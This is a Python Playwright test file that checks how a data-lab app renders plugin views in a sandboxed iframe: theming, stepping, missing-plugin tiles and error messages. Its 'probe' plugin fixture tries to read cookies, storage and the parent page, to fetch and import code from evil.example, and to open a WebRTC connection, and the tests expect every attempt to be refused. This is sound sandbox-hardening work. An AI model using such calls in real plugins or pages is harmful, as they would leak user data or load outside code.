"""Media of plugins in a real browser: drawn by the plugin's view, in a frame that reaches nothing."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from live_server import LiveServer, sdk_environ, serving, sign_in
from playwright.sync_api import Browser, Frame, Page, Route, expect
from plugin_site import install_example, with_site, write_plugin
from waiting import LIMIT_MS

OpenPage = Callable[..., Page]

CODE = """
from pathlib import Path
from diorama.plugins import API, Kind, Plugin
FOLDER = Path(__file__).parent
NAMES = ["probe", "throws", "syntax", "nothing", "mounts", "updates"]
PLUGIN = Plugin(api=API, kinds=tuple(Kind(name=name, view=FOLDER / f"{name}.js") for name in NAMES))
"""
PROBE = """
export async function mount(element, { record, blobs, theme, size }) {
  const found = { step: record.body.step, size, sum: blobs.data.reduce((a, b) => a + b), dark: theme.isDark };
  const attempt = async (name, work) => {
    try { await work(); found[name] = "worked"; } catch { found[name] = "refused"; }
  };
  await attempt("cookie", () => { if (!document.cookie) throw new Error("none"); });
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.title);
  await attempt("api", () => fetch("/api/projects"));
  await attempt("outside", () => fetch("https://evil.example/"));
  await attempt("module", () => import("https://evil.example/x.js"));
  await attempt("eval", () => Function("return 1")());
  await attempt("rtc", () => new RTCPeerConnection());
  found.origin = self.origin;
  element.textContent = JSON.stringify(found);
}
"""
MOUNTS = """
export function mount(element, { record }) {
  element.append(`step ${record.body.step}`);
  if (record.body.step === 1) throw new Error("not this one");
}
"""
UPDATES = """
export function mount(element, { record }) {
  const update = ({ record }) => {
    element.append(`step ${record.body.step}`);
    if (record.body.step === 1) throw new Error("not this one");
    element.replaceChildren(element.lastChild);
  };
  update({ record });
  return { update };
}
"""
VIEWS = {
    "mounts.js": MOUNTS,
    "updates.js": UPDATES,
    "probe.js": PROBE,
    "throws.js": "export function mount() { throw new Error('no such palette'); }",
    "syntax.js": "export function mount( {",
    "nothing.js": "export const draw = 1;",
}


@pytest.fixture(scope="module")
def plugins(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """A server that has the plugins of the store's media, but one: see fill_plugins.py."""
    folder = tmp_path_factory.mktemp("plugins")
    site = folder / "site"
    install_example(site, folder)
    write_plugin(site, "probe", CODE, files=VIEWS)
    store = folder / "store"
    environ = with_site(site, sdk_environ(store))
    script = Path(__file__).with_name("fill_plugins.py")
    subprocess.run([sys.executable, str(script)], env=environ, check=True, timeout=120)
    with serving(store, environ={"PYTHONPATH": environ["PYTHONPATH"]}) as found:
        yield found


def frame_of(page: Page) -> Frame:
    page.wait_for_selector(".figure[aria-busy=false] iframe")
    [frame] = [frame for frame in page.frames if "/frames/plugin" in frame.url]
    return frame


def show(page: Page, key: str, query: str = "") -> Page:
    page.goto(f"/lab/plugins?panels={quote(f'/^{key}$/')}{query}")
    return page


def test_the_view_of_a_plugin_draws_follows_the_step_and_the_theme(
    open_page: OpenPage, plugins: LiveServer
) -> None:
    page = show(open_page(plugins, color_scheme="light"), "colors", "&at=0")
    frame = frame_of(page)
    assert frame.evaluate("self.origin") == "null"
    first = "getComputedStyle(document.querySelector('li')).backgroundColor"
    assert frame.evaluate(first) == "rgb(20, 92, 164)"
    page.keyboard.press("]")
    frame.wait_for_function(f"() => {first} === 'rgb(204, 44, 44)'")
    assert len(page.frames) == 2  # the same frame, not a new one
    day = frame.evaluate("document.body.style.background")
    page.emulate_media(color_scheme="dark")
    frame.wait_for_function("day => document.body.style.background !== day", arg=day)
    page.get_by_role("button", name="Full view").first.click()
    big = page.frame_locator("[role=dialog] iframe, .full iframe").first
    expect(big.locator("li").first).to_have_text("75 %")


def test_without_its_plugin_it_says_what_to_install_and_shows_what_is_stored(
    open_page: OpenPage, plugins: LiveServer
) -> None:
    page = show(open_page(plugins), "gone")
    tile = page.locator(".plugin-stored")
    expect(tile).to_contain_text("Install the plugin “gone” where the server runs to see it.")
    expect(tile.get_by_role("link")).to_contain_text("scan.bin")
    expect(tile.locator("pre")).to_contain_text('"depth": 3')
    with page.expect_download() as download:
        tile.get_by_role("link").click()
    assert Path(download.value.path()).read_bytes() == b"12345"


def test_cells_of_a_table_show_the_small_picture_or_the_name(
    open_page: OpenPage, plugins: LiveServer
) -> None:
    page = show(open_page(plugins), "cells")
    picture = page.locator("img.plugin-thumbnail")
    expect(picture).to_have_attribute("alt", "in a cell")
    page.wait_for_function("document.querySelector('img.plugin-thumbnail').naturalWidth > 0")
    expect(page.locator(".figure-thumb", has_text="a cell")).to_be_visible()


@pytest.fixture
def hostile(chromium: Browser, plugins: LiveServer) -> Iterator[tuple[Page, list[str]]]:
    """A signed-in page whose console may complain, and the addresses elsewhere that it asked for."""
    context = chromium.new_context(base_url=plugins.url, viewport={"width": 1440, "height": 900})
    context.set_default_timeout(LIMIT_MS)
    sign_in(context, plugins)
    foreign: list[str] = []

    def refuse(route: Route) -> None:
        foreign.append(route.request.url)
        route.abort()

    # What the policy blocks never comes so far.
    context.route(lambda url: not url.startswith(plugins.url), refuse)
    yield context.new_page(), foreign
    context.close()


def test_a_view_reaches_nothing_but_what_it_is_given(hostile: tuple[Page, list[str]]) -> None:
    page, foreign = hostile
    found = json.loads(frame_of(show(page, "probe", "&at=1")).inner_text("#figure"))
    assert [found.pop(name) for name in ("step", "size", "sum", "origin")] == [1, "cell", 32640, "null"]
    found.pop("dark")
    assert set(found.values()) == {"refused"}, found
    assert foreign == []


@pytest.mark.parametrize(
    ("key", "words"),
    [
        ("throws", "It can't be drawn: no such palette"),
        ("syntax", "It can't be drawn: "),
        ("nothing", "It can't be drawn: Its module exports no function `mount`."),
    ],
)
def test_a_view_that_fails_says_why(hostile: tuple[Page, list[str]], key: str, words: str) -> None:
    page, _ = hostile
    expect(show(page, key).get_by_role("alert")).to_contain_text(words)


def test_stepping_back_while_the_next_is_on_its_way_shows_what_was_drawn(
    open_page: OpenPage, plugins: LiveServer
) -> None:
    page = open_page(plugins)
    held: list[Route] = []
    page.route(f"**/blobs/{hashlib.sha256(b'turn 1').hexdigest()}*", lambda route: held.append(route))
    frame = frame_of(show(page, "mounts", "&at=0"))
    tile = page.locator(".figure", has=page.locator("iframe"))
    page.keyboard.press("]")
    expect(tile).to_have_attribute("aria-busy", "true")
    page.keyboard.press("[")
    expect(tile).to_have_attribute("aria-busy", "false")
    assert frame.inner_text("#figure") == "step 0"
    assert held


@pytest.mark.parametrize("key", ["mounts", "updates"])
def test_stepping_back_from_one_that_fails_draws_anew(
    open_page: OpenPage, plugins: LiveServer, key: str
) -> None:
    page = show(open_page(plugins), key, "&at=0")
    frame = frame_of(page)
    tile = page.locator(".figure", has=page.locator("iframe"))
    page.keyboard.press("]")
    expect(page.get_by_role("alert")).to_contain_text("It can't be drawn: not this one")
    page.keyboard.press("[")
    expect(page.get_by_role("alert")).to_have_count(0)
    expect(tile).to_have_attribute("aria-busy", "false")
    assert frame.inner_text("#figure") == "step 0"
